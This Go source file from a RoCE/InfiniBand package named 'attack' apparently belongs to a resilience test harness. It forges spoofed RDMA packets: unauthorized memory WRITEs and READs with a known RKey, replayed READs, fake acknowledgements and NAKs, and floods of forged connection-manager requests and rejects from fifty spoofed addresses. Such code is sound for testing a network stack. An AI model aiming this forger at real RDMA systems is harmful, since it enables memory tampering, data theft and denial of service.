package attack

import (
	"encoding/binary"
	"math/rand/v2"
	"net/netip"

	"github.com/goroce/goroce/ib"
	"github.com/goroce/goroce/ib/mad"
)

// Known is what an attacker may know.
type Known struct {
	Server, Client       netip.Addr
	ServerQPN, ClientQPN ib.QPN
	Addr                 uint64 // of the server's memory
	RKey                 ib.RKey
	ReadPSN              ib.PSN // of the READ that the client has sent
}

// servicePort is the server's port of RDMA-CM.
const servicePort = 7000

// sources are how many addresses a flood of requests comes from.
const sources = 50

// from says at which address a packet is sent, and with it from which socket.
type from int

const (
	asClient from = iota
	asServer
	asStranger // of the first stranger; the others follow
)

// maker makes the nth packet of an attack.
type maker func(n int) (from, []byte)

// forger makes packets. Ports are those of the sockets that send them, which the ICRC covers.
type forger struct {
	Known
	rand  *rand.Rand
	flows map[from]*ib.ICRC
	comm  uint32 // the last communication ID
}

func newForger(k Known, seed uint64, port func(from) uint16) *forger {
	f := &forger{Known: k, rand: rand.New(rand.NewPCG(seed, 1)), flows: map[from]*ib.ICRC{}}
	for s := range asStranger + sources {
		dst := k.Server
		if s == asServer {
			dst = k.Client
		}
		c := ib.NewICRC(ib.Flow{Src: k.addrOf(s), Dst: dst, SrcPort: port(s), DstPort: ib.UDPPort})
		f.flows[s] = &c
	}
	return f
}

// addrOf is the address that packets come from.
func (k *Known) addrOf(s from) netip.Addr {
	switch s {
	case asClient:
		return k.Client
	case asServer:
		return k.Server
	}
	b := k.Server.As4()
	b[2], b[3] = 100, byte(s)
	return netip.AddrFrom4(b)
}

func (f *forger) packet(op ib.Opcode, to ib.QPN) ib.Packet {
	return ib.Packet{BTH: ib.BTH{Opcode: op, DestQP: to, PSN: ib.PSN(f.rand.Uint32() & 0xFFFFFF), PKey: ib.PKeyDefault}}
}

func (f *forger) bytes(s from, p *ib.Packet) (from, []byte) { return s, p.Append(nil, f.flows[s], 0) }

func (f *forger) writeTo(to ib.QPN) ib.Packet {
	p := f.packet(ib.RCWriteOnly, to)
	p.Payload = make([]byte, 8)
	p.RETH = ib.RETH{VA: f.Addr, RKey: f.RKey, Len: uint32(len(p.Payload))}
	return p
}

func (f *forger) nobody() maker {
	return func(int) (from, []byte) {
		p := f.writeTo(f.ServerQPN ^ 1) // in a slot that somebody has
		return f.bytes(asClient, &p)
	}
}

func (f *forger) damaged() maker {
	return func(int) (from, []byte) {
		p := f.writeTo(f.ServerQPN)
		s, b := f.bytes(asClient, &p)
		b[len(b)-1] ^= 0x55
		return s, b
	}
}

func (f *forger) write() maker {
	return func(int) (from, []byte) {
		p := f.writeTo(f.ServerQPN)
		return f.bytes(asClient, &p)
	}
}

func (f *forger) read() maker {
	return func(int) (from, []byte) {
		p := f.packet(ib.RCReadRequest, f.ServerQPN)
		p.RETH = ib.RETH{VA: f.Addr, RKey: f.RKey, Len: readBytes}
		return f.bytes(asClient, &p)
	}
}

// readAgain sends the READ request that the client has sent.
func (f *forger) readAgain() maker {
	return func(int) (from, []byte) {
		p := f.packet(ib.RCReadRequest, f.ServerQPN)
		p.PSN = f.ReadPSN
		p.RETH = ib.RETH{VA: f.Addr, RKey: f.RKey, Len: readBytes}
		return f.bytes(asClient, &p)
	}
}

// answer makes acknowledgements of a kind, as of the server.
func (f *forger) answer(s ib.Syndrome) maker {
	return func(int) (from, []byte) {
		p := f.packet(ib.RCAcknowledge, f.ClientQPN)
		p.AETH = ib.AETH{Syndrome: s, MSN: ib.MSN(f.rand.Uint32() & 0xFFFFFF)}
		return f.bytes(asServer, &p)
	}
}

func (f *forger) ack() maker         { return f.answer(0x1F) } // no credits
func (f *forger) nakSequence() maker { return f.answer(ib.NAKSequence) }
func (f *forger) nakFatal() maker    { return f.answer(ib.NAKRemoteAccess) }

func (f *forger) cnp() maker {
	return func(int) (from, []byte) {
		p := ib.NewCNP(f.ClientQPN)
		return f.bytes(asServer, &p)
	}
}

// message is one of the communication manager's.
type message interface{ Put(*mad.Data) error }

// managed makes a datagram with a message of the communication manager.
func (f *forger) managed(s from, at mad.Attribute, m message) (from, []byte) {
	var b [mad.Bytes]byte
	h := mad.CMHeader(at, mad.TID(f.rand.Uint64()))
	if err := m.Put(h.Put(&b)); err != nil {
		panic(err) // all lengths are constants
	}
	p := f.packet(ib.UDSendOnly, ib.QPNGSI)
	p.DETH = ib.DETH{QKey: ib.QKeyGSI, SrcQP: ib.QPNGSI}
	p.Payload = b[:]
	return f.bytes(s, &p)
}

func (f *forger) commID() mad.CommID { return mad.CommID(f.rand.Uint32()) }

func (f *forger) dreq() maker {
	return func(int) (from, []byte) {
		return f.managed(asClient, mad.AttrDREQ,
			&mad.DREQ{LocalCommID: f.commID(), RemoteCommID: f.commID(), RemoteQPN: f.ServerQPN})
	}
}

func (f *forger) rej() maker {
	return func(n int) (from, []byte) {
		return f.managed(asStranger+from(n%sources), mad.AttrREJ,
			&mad.REJ{LocalCommID: f.commID(), Rejected: mad.SubjectOther, Reason: mad.RejectTimeout})
	}
}

// request is the nth request for a connection to the server.
func (f *forger) request(n int) (from, []byte) {
	f.comm++
	s := asStranger + from(n%sources)
	src := f.addrOf(s)
	m := mad.REQ{
		LocalCommID: mad.CommID(f.comm), ServiceID: mad.NewServiceID(mad.PortSpaceTCP, servicePort),
		CAGUID: mad.GUID(f.comm), QPN: ib.QPN(f.comm&0xFFFF | 0x10000),
		MTU: ib.MTU1024, PKey: ib.PKeyDefault, Private: f.header(src),
		Primary: mad.Path{LocalGID: ib.GIDFromAddr(src), RemoteGID: ib.GIDFromAddr(f.Server), AckTimeout: 14},
	}
	return f.managed(s, mad.AttrREQ, &m)
}

// header is the private data of a request.
func (f *forger) header(src netip.Addr) []byte {
	b := make([]byte, mad.CMAHeaderBytes)
	h := mad.CMAHeader{SrcPort: 4660, Src: src, Dst: f.Server}
	if err := h.Put(b); err != nil {
		panic(err) // both addresses are of IPv4
	}
	return b
}

func (f *forger) req() maker { return f.request }

// reqRej gives each request up right after it.
func (f *forger) reqRej() maker {
	return func(n int) (from, []byte) {
		if n%2 == 0 {
			return f.request(n / 2)
		}
		m := mad.REJ{LocalCommID: mad.CommID(f.comm), Rejected: mad.SubjectOther, Reason: mad.RejectTimeout, InfoLen: 8}
		m.Info = make([]byte, mad.InfoBytes)
		binary.BigEndian.PutUint32(m.Info[4:], f.comm)
		return f.managed(asStranger+from(n/2%sources), mad.AttrREJ, &m)
	}
}

func (f *forger) sidrReq() maker {
	return func(n int) (from, []byte) {
		f.comm++
		s := asStranger + from(n%sources)
		return f.managed(s, mad.AttrSIDRReq, &mad.SIDRReq{RequestID: f.comm, PKey: ib.PKeyDefault,
			ServiceID: mad.NewServiceID(mad.PortSpaceUDP, servicePort), Private: f.header(f.addrOf(s))})
	}
}
